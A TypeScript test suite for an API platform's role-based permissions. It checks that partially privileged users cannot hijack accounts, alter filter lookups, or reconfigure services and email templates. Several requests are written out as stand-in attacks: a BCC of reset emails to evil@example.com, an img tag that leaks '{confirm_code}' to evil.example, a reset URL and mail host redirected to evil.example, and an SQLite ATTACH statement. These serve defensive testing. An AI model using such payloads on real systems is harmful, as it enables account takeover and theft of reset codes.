import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { type House, keyOf, openHouse } from '../helpers/house.ts'
import { ADMIN, askOf, signIn } from './people.ts'

const PASSWORD = 'UserPass-123456789'
const OTHER = 'Another-Pass-123456'
const ALL = 31
const MAPPINGS = 'user_to_app_to_role_by_user_id'
const rules = {
  desk: [{ component: '_table/orders', verbs: ['GET'] }],
  boss: [
    {
      component: '_table/*',
      verbs: ['GET', 'POST'],
      filters: [{ name: 'id', operator: '>', value: '{trim(region)}' }],
    },
  ],
}

let house: House
let token: string
let count = 0
let ids: Record<'desk' | 'boss' | 'system' | 'user' | 'shop' | 'deskApp' | 'bossApp', number>
/** Everything of the system but roles, by the letter of the rules; the chief writes roles too. */
let clerk: string
let chief: string
let clerkId: number

type Answer = Awaited<ReturnType<House['rest']>>
type Ask = (method: string, path: string, body?: unknown) => Promise<Answer>

const root: Ask = (method, path, body) => askOf(house)(method, `system/${path}`, { token, body })
const as =
  (who: string): Ask =>
  (method, path, body) =>
    askOf(house)(method, `system/${path}`, { token: who, key: keyOf('desk'), body })
const one = (record: object) => ({ resource: [record] })
/** Of a batch of one, the status of the one. */
const statusOf = ({ status, body }: Answer): number =>
  Object(body).error?.context?.resource?.[0]?.status_code ?? status
/** In turn: what one of them changed, the next would see. */
async function statuses(tries: readonly (readonly [string, string, object?])[], ask: Ask): Promise<number[]> {
  const got = []
  for (const [method, path, body] of tries) got.push(statusOf(await ask(method, path, body)))
  return got
}
const allOf = (status: number, { length }: { readonly length: number }) =>
  Array.from({ length }, () => status)

async function create(resource: string, record: object, by = root): Promise<number> {
  const { status, body } = await by('POST', resource, one(record))
  expect([status, status === 201 ? '' : body]).toEqual([201, ''])
  return Number(Object(body).resource[0].id)
}

async function bound(kind: 'user' | 'admin', components: readonly string[], denied: readonly string[] = []) {
  count += 1
  const rule = { service_id: ids.system, requestor_mask: 3 }
  const role = await create('role', {
    name: `role${count}`,
    is_active: true,
    role_service_access_by_role_id: [
      ...components.map((component) => ({ ...rule, component, verb_mask: ALL })),
      // Others are seen only where something of them is reached.
      { ...rule, service_id: null, component: '_spec', verb_mask: 1 },
      ...denied.map((component) => ({ ...rule, component, verb_mask: 0 })),
    ],
  })
  const email = `bound${count}@example.com`
  const mapping = { app_id: ids.deskApp, role_id: role }
  const id = await create(kind, { email, password: PASSWORD, [MAPPINGS]: [mapping] })
  return { id, token: await signIn(house, kind, { email, password: PASSWORD }) }
}

/** Somebody with the role of the boss. */
async function victim(record: object = {}): Promise<{ id: number; email: string }> {
  const email = `victim${++count}@example.com`
  const mapping = { app_id: ids.bossApp, role_id: ids.boss }
  const id = await create('user', { email, password: PASSWORD, [MAPPINGS]: [mapping], ...record })
  return { id, email }
}

const mayStillSignIn = async (email: string) =>
  expect(await signIn(house, 'user', { email, password: PASSWORD })).not.toBe('')

beforeAll(async () => {
  house = await openHouse(rules)
  token = await signIn(house, 'admin', ADMIN)
  const { apps, roleById, serviceByName } = house.app.store.snapshot()
  const role = (wanted: string) => [...roleById.values()].find(({ name }) => name === wanted)?.id ?? 0
  const app = (wanted: string) => apps.find(({ roleId }) => roleId === role(wanted))?.id ?? 0
  const service = (name: string) => serviceByName.get(name)?.id ?? 0
  ids = {
    desk: role('desk'),
    boss: role('boss'),
    deskApp: app('desk'),
    bossApp: app('boss'),
    system: service('system'),
    user: service('user'),
    shop: service('shop'),
  }
  const most = [
    'user/*',
    'app/*',
    'service/*',
    'lookup/*',
    'email_template/*',
    'limit/*',
    'cors/*',
    'custom/*',
  ]
  const rest = ['package', 'config_package', 'import', 'admin/*']
  const person = await bound('user', [...most, ...rest])
  clerk = person.token
  clerkId = person.id
  chief = (await bound('admin', [...most, ...rest, 'role/*'])).token
})
afterAll(() => house.close())

describe('what somebody signs in by', () => {
  const CHANGES = [
    { password: OTHER },
    { email: 'taken-over@example.com' },
    { security_question: 'Colour?' },
    { security_answer: 'blue' },
    { first_name: 'Una', password: OTHER },
  ]

  test.each(CHANGES)('is not changed by rights to users alone: %j', async (change) => {
    const { id, email } = await victim()
    const tries: [string, string, object?][] = [
      ['PATCH', `user/${id}`, change],
      ['PUT', `user/${email}`, change],
      ['PATCH', 'user', one({ id, ...change })],
      ['PUT', 'user?continue=true', one({ id, ...change })],
      ['PATCH', `user?ids=${id}`, one(change)],
      ['PATCH', `user?filter=id=${id}`, one(change)],
      ['PATCH', `user/${id}?send_invite=true`, change],
      [
        'PATCH',
        `app/${ids.deskApp}`,
        { user_by_default_app_id: [{ id, default_app_id: ids.deskApp, ...change }] },
      ],
    ]
    const got = await statuses(tries, as(clerk))
    // Somebody else's child is not found before its rights are asked of.
    expect(got).toEqual([...allOf(403, tries.slice(1)), 404])
    await mayStillSignIn(email)
    expect(statusOf(await as(clerk)('PATCH', `user/${id}`, { first_name: 'Una', email }))).toBe(200)
    expect(statusOf(await as(chief)('PATCH', `user/${id}`, { password: OTHER }))).toBe(200)
  })

  test('nor of one’s own account: that takes the password', async () => {
    const tries = CHANGES.map((change) => ['PATCH', `user/${clerkId}`, change] as const)
    expect(await statuses(tries, as(clerk))).toEqual(allOf(403, tries))
  })

  test('is its maker’s until somebody has used the account, or was given a role by it', async () => {
    const ask = as(clerk)
    const make = () => create('user', { email: `made${++count}@example.com`, password: PASSWORD }, ask)
    const change = async (id: number) => statusOf(await ask('PATCH', `user/${id}`, { password: PASSWORD }))
    const [fresh, used, mapped, lookedUp] = [await make(), await make(), await make(), await make()]
    expect(await change(fresh)).toBe(200)
    await signIn(house, 'user', { email: `made${count - 2}@example.com`, password: PASSWORD })
    await root('PATCH', `user/${mapped}`, { [MAPPINGS]: [{ app_id: ids.bossApp, role_id: ids.boss }] })
    await root('PATCH', `user/${lookedUp}`, { lookup_by_user_id: [{ name: 'region', value: '0' }] })
    expect([await change(used), await change(mapped), await change(lookedUp)]).toEqual([403, 403, 403])
    const changed = await make()
    await root('PATCH', `user/${changed}`, { password: OTHER })
    expect(await change(changed)).toBe(403)
  })

  test('an account that was switched off is not switched on again', async () => {
    const { id } = await victim({ is_active: false })
    expect(statusOf(await as(clerk)('PATCH', `user/${id}`, { is_active: true }))).toBe(403)
    expect(statusOf(await as(clerk)('PATCH', `user/${id}`, { is_active: false }))).toBe(200)
    expect(statusOf(await as(chief)('PATCH', `user/${id}`, { is_active: true }))).toBe(200)
  })
})

describe('lookups that row filters use', () => {
  test('of a user or an app go with roles, also one’s own', async () => {
    const { id } = await victim()
    const lookup = await root('PATCH', `user/${id}?fields=id&related=lookup_by_user_id`, {
      lookup_by_user_id: [{ name: 'region', value: '9' }],
    })
    const [{ id: stored }] = Object(lookup.body).lookup_by_user_id
    const given = { name: 'region', value: '0' }
    const tries: [string, string, object][] = [
      ['PATCH', `user/${clerkId}`, { lookup_by_user_id: [given] }],
      ['PUT', `user/${id}`, { lookup_by_user_id: [given] }],
      ['PATCH', 'user', one({ id, lookup_by_user_id: [{ id: stored, value: '0' }] })],
      ['PATCH', `user/${id}`, { lookup_by_user_id: [{ id: stored, name: 'other' }] }],
      ['PATCH', `user/${id}`, { lookup_by_user_id: [{ id: stored, user_id: null }] }],
      ['POST', 'user', one({ email: 'looked-up@example.com', lookup_by_user_id: [given] })],
      ['PATCH', `app/${ids.bossApp}`, { lookup_by_app_id: [given] }],
      ['POST', 'app', one({ name: 'looked-up', lookup_by_app_id: [given] })],
    ]
    expect(await statuses(tries, as(clerk))).toEqual(allOf(403, tries))
    const { lookups } = house.app.store.snapshot()
    expect(lookups.byUser.get(id)).toEqual(new Map([['region', '9']]))
    expect((await root('GET', 'user/looked-up@example.com')).status).toBe(404)
    expect(statusOf(await as(chief)('PATCH', `user/${id}`, { lookup_by_user_id: [given] }))).toBe(200)
  })

  test('of the system, by their names', async () => {
    const id = await create('lookup', { name: 'Region', value: '9' })
    const free = await create('lookup', { name: 'colour', value: 'red' }, as(clerk))
    const tries: [string, string, object?][] = [
      ['PATCH', `lookup/${id}`, { value: '0' }],
      ['PUT', 'lookup/region', { value: '0' }],
      ['PATCH', `lookup/${id}`, { private: true }],
      ['DELETE', `lookup/${id}`],
      ['DELETE', `lookup?ids=${id}&force=true`],
      ['PATCH', `lookup/${free}`, { name: 'REGION' }],
      ['POST', 'lookup', one({ name: ' region', value: '0' })],
    ]
    expect(await statuses(tries, as(clerk))).toEqual(allOf(403, tries))
    expect(statusOf(await as(clerk)('PATCH', `lookup/${id}`, { value: '9', description: 'x' }))).toBe(200)
    expect(statusOf(await as(clerk)('PATCH', `lookup/${free}`, { value: 'blue' }))).toBe(200)
    expect(statusOf(await as(chief)('DELETE', `lookup/${id}`))).toBe(200)
  })

  test('that configs of services and messages with codes use are for administrators whom nothing binds', async () => {
    await create('service', { name: 'looked', type: 'sqlite', config: { database: './{file_name}.sqlite' } })
    await root('PATCH', 'email_template/Password Reset Default', { bcc: '{audit_address}' })
    const tries = ['file_name', 'audit_address'].map(
      (name) => ['POST', 'lookup', one({ name, value: 'evil@example.com' })] as const,
    )
    for (const who of [clerk, chief]) expect(await statuses(tries, as(who))).toEqual([403, 403])
    expect(await statuses(tries, root)).toEqual([201, 201])
    await root('PATCH', 'email_template/Password Reset Default', { bcc: null })
  })
})

describe('an app with a role', () => {
  const KEY = 'k'.repeat(64)

  test.each(['a role of its own', 'a role for a user'])('%s: is no longer its maker’s', async (how) => {
    const ask = as(clerk)
    const id = await create('app', { name: `made${++count}`, is_active: true }, ask)
    expect(
      statusOf(await ask('PATCH', `app/${id}`, { name: `again${count}`, api_key: `${KEY}${count}` })),
    ).toBe(200)
    const { id: userId } = await victim()
    const mapping = { user_id: userId, role_id: ids.boss }
    const given =
      how === 'a role of its own' ? { role_id: ids.boss } : { user_to_app_to_role_by_app_id: [mapping] }
    expect(statusOf(await root('PATCH', `app/${id}`, given))).toBe(200)
    const tries: [string, string, object][] = [
      ['PATCH', `app/${id}`, { api_key: `${KEY}x` }],
      ['PATCH', `app/${id}?regenerate=true&fields=api_key`, {}],
      ['PUT', 'app?regenerate=true', one({ id })],
      ['PATCH', `app/${id}`, { name: 'SE' }],
      ['PATCH', 'app', one({ id, role_id: ids.desk })],
    ]
    expect(await statuses(tries, ask)).toEqual(allOf(403, tries))
    expect(statusOf(await ask('PATCH', `app/${id}`, { is_active: false, description: 'x' }))).toBe(200)
    expect(statusOf(await ask('PATCH', `app/${id}`, { is_active: true }))).toBe(403)
    expect(statusOf(await as(chief)('PATCH', `app/${id}`, { is_active: true, name: `SE${count}` }))).toBe(200)
  })
})

describe('services', () => {
  test('are configured by administrators whom nothing binds', async () => {
    const smtp = { name: 'post', type: 'smtp_email', config: { host: 'mail.example', from: 'a@b.example' } }
    const post = await create('service', smtp)
    const map = { app_role_map: [{ app_id: ids.bossApp, role_id: ids.boss }] }
    const url = { confirm_reset_url: 'https://evil.example/' }
    const sqlite = { database: './system.sqlite' }
    const tries = [{ allow_open_registration: true }, { open_reg_role_id: ids.boss }, map, url].flatMap(
      (config): [string, string, object][] => [
        ['PATCH', 'service/user', { config }],
        ['PUT', 'service', one({ id: ids.user, config })],
      ],
    )
    tries.push(
      ['PATCH', 'service/system', { config: url }],
      ['PATCH', `service/${post}`, { config: { host: 'evil.example' } }],
      ['PATCH', `service?ids=${ids.shop}`, one({ config: sqlite })],
      ['PUT', 'service/shop', { config: { ...sqlite, statements: ['ATTACH "a" AS b'] } }],
      ['PATCH', `service/${post}?validate=true`, { config: { host: '127.0.0.1' } }],
      ['POST', 'service?validate=true', one({ name: 'mine', type: 'sqlite', config: sqlite })],
      ['POST', 'service', one({ name: 'mine', type: 'sqlite', config: sqlite })],
    )
    for (const who of [clerk, chief]) expect(await statuses(tries, as(who))).toEqual(allOf(403, tries))
    const { serviceByName } = house.app.store.snapshot()
    expect(serviceByName.get('user')?.config).toEqual({})
    expect(serviceByName.has('mine')).toBe(false)
  })

  test('may be labelled, and sent back as they were read, by who may write them', async () => {
    for (const name of ['user', 'shop', 'post']) {
      const { config } = Object((await as(clerk)('GET', `service/${name}`)).body)
      const answer = await as(clerk)('PATCH', `service/${name}`, { config, label: 'Ours' })
      expect([name, answer.status], answer.text).toEqual([name, 200])
    }
  })

  test('one that rules name does not take them along', async () => {
    expect(statusOf(await as(clerk)('DELETE', `service/${ids.shop}`))).toBe(403)
    expect(statusOf(await as(clerk)('DELETE', `service?ids=${ids.shop}&force=true`))).toBe(403)
    const free = await create('service', {
      name: 'free',
      type: 'sqlite',
      config: { database: './free.sqlite' },
    })
    expect(statusOf(await as(clerk)('DELETE', `service/${free}`))).toBe(200)
  })

  test('one that was switched off is not switched on again', async () => {
    await root('PATCH', 'service/shop', { is_active: false })
    expect(statusOf(await as(clerk)('PATCH', `service/${ids.shop}`, { is_active: true }))).toBe(403)
    expect(statusOf(await as(chief)('PATCH', `service/${ids.shop}`, { is_active: 'yes' }))).toBe(200)
  })

  test('a rule of a role that is denied is not written by way of its service', async () => {
    const some = await bound('user', ['service/*', 'role/*'], [`role/${ids.boss}`])
    const rule = { component: '*', verb_mask: ALL, requestor_mask: 1 }
    const children = (role_id: number) => ({ role_service_access_by_service_id: [{ ...rule, role_id }] })
    const ask = as(some.token)
    expect(statusOf(await ask('PATCH', `service/${ids.shop}`, children(ids.boss)))).toBe(403)
    const { id } = Object(
      (await root('GET', `service/${ids.shop}?related=role_service_access_by_service_id`)).body,
    ).role_service_access_by_service_id.find(({ role_id }: { role_id: number }) => role_id === ids.boss)
    const moved = { role_service_access_by_service_id: [{ id, verb_mask: ALL }] }
    expect(statusOf(await ask('PATCH', `service/${ids.shop}`, moved))).toBe(403)
    expect(statusOf(await ask('PATCH', `service/${ids.shop}`, children(ids.desk)))).toBe(200)
  })
})

test('messages that codes are sent in are for administrators whom nothing binds', async () => {
  const path = 'email_template/Password Reset Default'
  const extra = await create('email_template', {
    name: 'invitation',
    subject: 'Come',
    body_text: '{confirm_code}',
  })
  await root('PATCH', 'service/system', { config: { invite_email_template_id: extra } })
  const tries: [string, string, object?][] = [
    ['PATCH', path, { bcc: 'evil@example.com' }],
    ['PUT', path, { body_html: '<img src="https://evil.example/{confirm_code}">' }],
    ['PATCH', `email_template/${extra}`, { cc: 'evil@example.com' }],
    ['PATCH', `email_template?ids=${extra}`, one({ body_text: 'x' })],
    ['DELETE', path],
    ['DELETE', `email_template?ids=${extra}&force=true`],
  ]
  for (const who of [clerk, chief]) expect(await statuses(tries, as(who))).toEqual(allOf(403, tries))
  const own = await create('email_template', { name: 'news', subject: 'News' }, as(clerk))
  const renamed = { name: 'user invite default' }
  await root('PATCH', 'email_template/User Invite Default', { name: 'kept' })
  expect(statusOf(await as(clerk)('PATCH', `email_template/${own}`, renamed))).toBe(403)
  expect(statusOf(await as(clerk)('POST', 'email_template', one(renamed)))).toBe(403)
  expect(statusOf(await as(clerk)('PATCH', `email_template/${own}`, { subject: 'Old news' }))).toBe(200)
  await root('PATCH', 'email_template/kept', { name: 'User Invite Default' })
})

test('packages are for administrators whom nothing binds', async () => {
  const pack = { format: 'dreamfactory.config/v1', roles: [] }
  for (const who of [clerk, chief]) {
    const tries: [string, string, object?][] = [
      ['GET', 'config_package'],
      ['POST', 'config_package', pack],
      ['GET', 'package'],
      ['POST', 'package', { service: { system: { role: true } } }],
    ]
    expect(await statuses(tries, as(who))).toEqual(allOf(403, tries))
  }
})
